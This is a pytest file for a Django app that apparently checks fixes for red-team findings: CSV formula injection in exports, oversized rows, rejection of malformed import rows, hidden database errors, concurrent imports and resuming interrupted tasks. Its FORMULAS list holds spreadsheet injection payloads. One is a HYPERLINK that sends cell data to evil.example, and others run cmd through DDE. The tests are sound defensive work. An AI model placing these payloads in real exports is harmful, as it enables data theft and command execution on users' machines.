"""Imports and the CSV files Envoy writes, against the red team's findings: formula cells
(F-02, F-03), the reader's cost (F-07), rows that must not fail a whole import (F-08), runs
whose process died (F-13) and concurrent identical imports (F-14)."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import time
import tracemalloc
from pathlib import Path

import pytest

from cases.models import Case, CaseSnapshot
from core.spreadsheets import FORMULA_STARTS
from recommendations.models import ImportRow, Situation, TaskRun
from recommendations.taskruns.services import UNEXPECTED
from tests.helpers import finished, project_modules, upload
from tests.imports import csv_bytes, json_bytes, row

PROJECT = Path(__file__).resolve().parents[2]

# The review's payloads, one for each way a spreadsheet starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(content.decode())) for cell in line]


def _runnable(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# F-02 and F-03: every CSV Envoy writes makes formula cells inert.


@pytest.mark.django_db
def test_an_import_report_csv_never_holds_a_formula(client, analyst):
    """F-02: keys that start like formulas come back in rows.csv with a leading quote."""
    rows = [row(key=payload, country=f"Formula{n}") for n, payload in enumerate(FORMULAS)]
    rows.append(row(key=FORMULAS[0], region="atlantis"))  # a rejected row keeps its key too
    task = finished(analyst.client, upload(analyst.client, json_bytes(rows, lines=True), "f.jsonl"))
    client.force_login(analyst.user)
    response = client.get(f"/tasks/{task['id']}/rows.csv")
    content = b"".join(response.streaming_content)
    cells = _cells(content)
    assert _runnable(cells) == []
    for payload in FORMULAS:  # an import strips a key's blanks, tab and CR included
        assert "'" + payload.strip() in cells


@pytest.mark.django_db
def test_the_import_template_never_holds_a_formula(client, analyst):
    """F-03: a case whose country and notes start like formulas is the template's example
    row, its cells inert."""
    first = CaseSnapshot.objects.select_related("case").order_by("case__slug", "date").first()
    Case.objects.filter(pk=first.case_id).update(country=FORMULAS[0])
    CaseSnapshot.objects.filter(pk=first.pk).update(input={**first.input, "notes": FORMULAS[1]})
    client.force_login(analyst.user)
    cells = _cells(client.get("/situations/import/template.csv").content)
    assert _runnable(cells) == []
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells


@pytest.mark.django_db
def test_the_library_export_never_holds_a_formula(client, viewer):
    """F-02: the library export neutralises every payload (title, country, summary)."""
    for case, payload in zip(Case.objects.order_by("slug")[: len(FORMULAS)], FORMULAS, strict=True):
        Case.objects.filter(pk=case.pk).update(title=payload, country=payload, summary=payload)
    client.force_login(viewer.user)
    cells = _cells(client.get("/library/export.csv").content)
    assert _runnable(cells) == []
    assert all(("'" + payload) in cells for payload in FORMULAS)


def test_every_csv_writer_goes_through_the_shared_one():
    """F-02: no module of Envoy writes CSV but through core.spreadsheets."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(PROJECT))
        for path in project_modules()
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["core/spreadsheets.py"]


# F-07: the reader's cost grows with the file, and a long row is refused unread.

LONG = 20 * 1024 * 1024  # a row 320 times longer than any the reader accepts


def _peak_while_reading(path: Path, kind: str) -> tuple[list | Exception, int]:
    """The file's rows (or the ImportFileError refusing it) and the peak memory held."""
    from django.core.files import File

    from recommendations.imports.services import ImportFileError, read_rows

    tracemalloc.start()
    try:
        with File(path.open("rb")) as stream:
            rows: list | Exception = list(read_rows(stream, kind))
    except ImportFileError as exc:
        rows = exc
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return rows, peak


@pytest.mark.parametrize(
    "name, prefix, suffix",
    [
        ("line.jsonl", b'{"country": "', b'"}\n'),
        ("array.json", b'[{"country": "', b'"},\n'),
    ],
)
def test_a_row_far_too_long_is_refused_without_being_read_whole(tmp_path, name, prefix, suffix):
    """F-07: one 20 MB row among good ones is refused while the reader holds at most a few
    MB: it is never assembled (the cost of assembling it grew with the square of its size)."""
    path = tmp_path / name
    good = json.dumps(row()).encode()
    with path.open("wb") as out:
        out.write(prefix + b"a" * LONG + suffix)
        out.write(good + (b"]" if name.endswith(".json") else b"\n"))
    rows, peak = _peak_while_reading(path, "json")
    assert [(line, errors) for line, _item, errors in rows] == [
        (1, {"row": [rows[0][2]["row"][0]]}),
        (2, {}),
    ]
    assert "is longer than 65,536" in rows[0][2]["row"][0]
    assert peak < LONG / 4


def test_a_csv_line_far_too_long_is_refused_before_it_is_read_whole(tmp_path):
    """F-07: a CSV line of 20 MB fails the file (a CSV row may span lines, so it cannot be
    skipped) before it is read whole."""
    path = tmp_path / "long.csv"
    path.write_bytes(csv_bytes([row()]) + b"a" * LONG + b"\n")
    refused, peak = _peak_while_reading(path, "csv")
    assert "Line 3 is longer than 65,536 characters" in str(refused)
    assert peak < LONG / 4


# F-08: a bad row is one rejected row, with its reason; never a failed import.

DEEP = "[" * 3000 + "]" * 3000


def _import(analyst, content: bytes, name: str) -> tuple[dict, dict[int, dict]]:
    """The finished import's report and its rejected rows' errors by line."""
    task = finished(analyst.client, upload(analyst.client, content, name=name))
    rejected = ImportRow.objects.filter(run_id=task["id"], status="rejected")
    return task["result"], {r.line: r.errors for r in rejected}


@pytest.mark.django_db
def test_json_lines_with_bad_rows_store_the_good_ones(analyst):
    """F-08: a huge integer, a line nested 3000 deep, NUL and a lone surrogate in text or
    in a key are each one rejected row; the good rows are stored."""
    lines = [
        json.dumps(row(country="Goodland")),
        json.dumps(row(recent_fatalities=2**64)),
        '{"country": ' + DEEP + "}",
        json.dumps(row(notes="Nul\x00land")),
        json.dumps(row(country="Nul\x00land")),
        json.dumps(row(notes="half \ud800 pair")),
        json.dumps(row(key="k\x00y")),
        json.dumps({"co\x00untry": "x"}),
        json.dumps(row(country="Goodland too")),
    ]
    result, rejected = _import(analyst, "\n".join(lines).encode(), "bad.jsonl")
    assert (result["stored"], result["rejected"]) == (2, 7)
    assert rejected[2] == {"recent_fatalities": ["Must be at most 9,007,199,254,740,991."]}
    assert rejected[3] == {"row": ["Lists and objects nest more than 8 deep in this row."]}
    assert rejected[4] == {"notes": ["Text may not contain the NUL character (U+0000)."]}
    assert rejected[5] == {"country": ["Text may not contain the NUL character (U+0000)."]}
    (surrogate,) = rejected[6]["notes"]
    assert "half of a surrogate pair" in surrogate
    assert rejected[7] == {"key": ["Text may not contain the NUL character (U+0000)."]}
    assert "co\\x00untry" in rejected[8]
    assert set(Situation.objects.values_list("country", flat=True)) == {
        "Goodland",
        "Goodland too",
    }


@pytest.mark.django_db
def test_a_json_array_with_bad_items_stores_the_good_ones(analyst):
    """F-08: in a JSON array, an item nested 3000 deep, a huge integer and a NUL are each
    one rejected row."""
    items = [
        json.dumps(row(country="Goodland")),
        '{"country": ' + DEEP + "}",
        json.dumps(row(recent_fatalities=2**64)),
        json.dumps(row(notes="Nul\x00land")),
        '{"country": 1' + "9" * 5000 + "}",
        json.dumps(row(country="Goodland too")),
    ]
    result, rejected = _import(analyst, ("[" + ",\n".join(items) + "]").encode(), "bad.json")
    assert (result["stored"], result["rejected"]) == (2, 4)
    assert rejected[2] == {"row": ["Lists and objects nest more than 8 deep in this row."]}
    assert rejected[3] == {"recent_fatalities": ["Must be at most 9,007,199,254,740,991."]}
    assert rejected[4] == {"notes": ["Text may not contain the NUL character (U+0000)."]}
    assert "Not valid JSON" in rejected[5]["row"][0]


@pytest.mark.django_db
def test_a_csv_with_unicode_digits_or_huge_numbers_stores_the_good_rows(analyst):
    """F-08: `²` (a digit to str.isdigit, not to int) and 2**64 in an integer column are
    rejected rows; so is a NUL in a cell."""
    rows = [
        row(country="Goodland"),
        row(recent_fatalities="²"),
        row(recent_fatalities="٣"),
        row(recent_fatalities=str(2**64)),
        row(notes="Nul\x00land"),
        row(country="Goodland too"),
    ]
    result, rejected = _import(analyst, csv_bytes(rows), "bad.csv")
    assert (result["stored"], result["rejected"]) == (2, 4)
    assert rejected[2] == rejected[3] == {"recent_fatalities": ["Must be a whole number."]}
    assert rejected[4] == {"recent_fatalities": ["Must be at most 9,007,199,254,740,991."]}
    assert rejected[5] == {"notes": ["Text may not contain the NUL character (U+0000)."]}


@pytest.mark.django_db
def test_a_run_that_fails_unexpectedly_shows_no_database_message(analyst, monkeypatch):
    """F-08: an error Envoy did not expect (here the database refusing a value) fails the
    run with a generic message; the database's own text, which quotes SQL and other rows'
    data, stays in the server's log."""
    from django.db import DataError

    import recommendations.imports.services as imports

    def refused(*args, **kwargs):
        raise DataError("unsupported Unicode escape sequence LINE 1: ...'::jsonb,'{\"country")

    monkeypatch.setattr(imports, "ruleset_active", refused)
    response = upload(analyst.client, csv_bytes([row()]))
    task = analyst.client.get(response.json()["status_url"]).json()
    assert task["state"] == "failed"
    assert task["error"] == UNEXPECTED
    assert "LINE 1" not in TaskRun.objects.get(pk=task["id"]).error


# F-14: two identical imports at once count and log only the rows each inserted.


def _waiting_on_locks(cursor) -> int:
    cursor.execute("SELECT pg_stat_clear_snapshot()")  # else one snapshot per transaction
    cursor.execute(
        "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' "
        "AND datname = current_database()"
    )
    return cursor.fetchone()[0]


def _until(condition, what: str) -> None:
    for _ in range(600):
        if condition():
            return
        time.sleep(0.05)
    raise AssertionError(f"gave up waiting until {what}")


@pytest.mark.django_db(transaction=True)
def test_two_identical_imports_at_once_count_and_log_only_their_own_rows(
    committed_reference_data,
):
    """F-14: the same 120-row file (40 new countries) imported twice at once. The first run
    holds its new situations uncommitted while the second reaches them; the second joins
    them: 40 situations created in all (not 80), one audit entry each."""
    from auditlog.models import LogEntry
    from django.contrib.contenttypes.models import ContentType
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.db import connection, transaction

    from recommendations.imports.services import import_execute, import_record
    from recommendations.models import Assessment
    from tests.factories import TeamFactory
    from tests.helpers import make_persona

    team = TeamFactory()
    analyst = make_persona("analyst", team)
    rows = [row(country=f"Raceland {n % 40}", key=f"race-{n}") for n in range(120)]
    content = json_bytes(rows, lines=True)
    runs = [
        import_record(
            user=analyst.user, upload=SimpleUploadedFile("same.jsonl", content), team=team.slug
        )
        for _ in range(2)
    ]
    failures: list[BaseException] = []

    def work(run) -> None:
        try:
            import_execute(str(run.pk))
        except BaseException as exc:  # asserted below
            failures.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=work, args=(run,)) for run in runs]
    with transaction.atomic(), connection.cursor() as cursor:
        # Row reports wait for this lock, so each run stops just before its commit.
        cursor.execute(f"LOCK TABLE {ImportRow._meta.db_table} IN EXCLUSIVE MODE")
        threads[0].start()
        _until(lambda: _waiting_on_locks(cursor) == 1, "the first run waits to commit")
        threads[1].start()
        _until(lambda: _waiting_on_locks(cursor) == 2, "the second run waits on the first")
    for thread in threads:
        thread.join(timeout=120)
    assert failures == []

    first, second = (TaskRun.objects.get(pk=run.pk) for run in runs)
    assert (first.state, second.state) == ("succeeded", "succeeded")
    assert first.result["situations_created"] == 40 and first.result["stored"] == 120
    assert second.result["situations_created"] == 0 and second.result["duplicates"] == 120
    assert Situation.objects.filter(team=team).count() == 40
    assert Assessment.objects.filter(situation__team=team).count() == 120
    created = LogEntry.objects.filter(action=LogEntry.Action.CREATE)
    logged = created.filter(content_type=ContentType.objects.get_for_model(Situation))
    assert sorted(logged.values_list("object_id", flat=True)) == sorted(
        Situation.objects.filter(team=team).values_list("pk", flat=True)
    )
    assessments = created.filter(content_type=ContentType.objects.get_for_model(Assessment))
    assert assessments.count() == 120
    assert set(assessments.values_list("cid", flat=True)) == {str(first.pk)}


# F-13: a task whose process died is shown as interrupted, with a way to carry on.


def _stale_import(analyst, content: bytes):
    """An import recorded as running 1 of its rows, whose last sign of life is an hour old:
    the process carrying it out was killed."""
    from datetime import timedelta

    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.utils import timezone

    from recommendations.imports.services import import_record

    run = import_record(
        user=analyst.user, upload=SimpleUploadedFile("rows.jsonl", content), team="horn-desk"
    )
    an_hour_ago = timezone.now() - timedelta(hours=1)
    TaskRun.objects.filter(pk=run.pk).update(
        state=TaskRun.State.RUNNING, done=0, total=3, heartbeat=an_hour_ago
    )
    return run


@pytest.mark.django_db
def test_a_task_whose_process_died_is_shown_interrupted_and_stops_polling(client, analyst):
    """F-13: a run left running with an old heartbeat is interrupted in the API (the
    poller reads `running: false` and stops) and on its page, which offers to resume."""
    run = _stale_import(analyst, json_bytes([row()], lines=True))
    task = analyst.client.get(f"/api/v1/tasks/{run.pk}/").json()
    assert (task["state"], task["running"]) == ("interrupted", False)
    client.force_login(analyst.user)
    html = client.get(f"/tasks/{run.pk}/").content.decode()
    assert 'data-task-finished="1"' in html  # progress.js does not start
    assert "This page updates by itself" not in html
    assert "This task stopped before it finished" in html
    assert f'action="/tasks/{run.pk}/resume/"' in html
    listing = client.get("/tasks/").content.decode()
    assert 'class="state state-interrupted">Interrupted<' in listing
    script = (PROJECT / "static" / "progress.js").read_text()
    assert "if (!task.running)" in script


@pytest.mark.django_db
def test_an_interrupted_import_resumes_where_it_stopped(client, analyst):
    """F-13: resuming stores the rows the dead process had not reached, once."""
    from recommendations.models import Assessment
    from tests.helpers import run_on_commit

    rows = [row(country=f"Resumeland {n}") for n in range(3)]
    run = _stale_import(analyst, json_bytes(rows, lines=True))
    client.force_login(analyst.user)
    with run_on_commit():
        response = client.post(f"/tasks/{run.pk}/resume/")
    assert response.status_code == 302
    task = analyst.client.get(f"/api/v1/tasks/{run.pk}/").json()
    assert (task["state"], task["running"], task["result"]["stored"]) == ("succeeded", False, 3)
    assert Assessment.objects.filter(situation__country__startswith="Resumeland").count() == 3
    again = client.post(f"/tasks/{run.pk}/resume/", follow=True).content.decode()
    assert "This import is not interrupted" in again
